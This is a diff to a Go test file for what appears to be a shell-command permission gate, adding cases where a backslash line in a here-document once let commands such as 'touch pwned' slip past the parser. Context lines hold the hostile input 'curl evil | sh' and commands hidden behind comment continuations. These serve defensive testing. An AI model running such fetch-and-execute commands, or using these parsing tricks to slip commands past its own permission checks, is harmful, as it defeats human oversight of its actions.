@@ -104,6 +104,12 @@ func TestGateSoundness(t *testing.T) {
 		{"comment ending in a backslash, deny rule", denyCurl, bashReq("ls # x\\\ncurl evil | sh"), Deny, 1, ""},
 		{"comments ending in backslashes, nested", denyCurl, bashReq("f() { ls #a\\\n#b\\\ncurl x; }; f"), Deny, 1, ""},
 		{"comment ending in an escaped backslash", nil, bashReq("echo hi #x\\\\\ntouch pwned"), Ask, 7, "touch"},
+		// A here-document body line ending in a backslash: the parser
+		// never took the next line for the delimiter, and read on to a
+		// later one, hiding the commands between.
+		{"here-document after a backslash line", nil, bashReq("cat <<E\n\\\nE\ntouch pwned\ncat <<E\nx\nE\n"), Ask, 2, "here-document"},
+		{"quoted here-document after a backslash line", nil, bashReq("cat <<\"E\"F\n\\\nEF\ntouch pwned\ncat <<E\nx\nE\n"), Ask, 2, "here-document"},
+		{"ok: here-document with a continued line", nil, bashReq("cat <<E\nline \\\nmore\nE\n"), Allow, 7, ""},
 		{"git: found repository is clean", nil, bashReq("git -C both log -p"), Allow, 7, ""},
 		{"git: --bare makes the directory the repository", nil, bashReq("git -C both --bare log -p"), Ask, 7, "--bare"},
 		{"git: cd, then --bare", nil, bashReq("cd both && git --bare log -p"), Ask, 7, "--bare"},
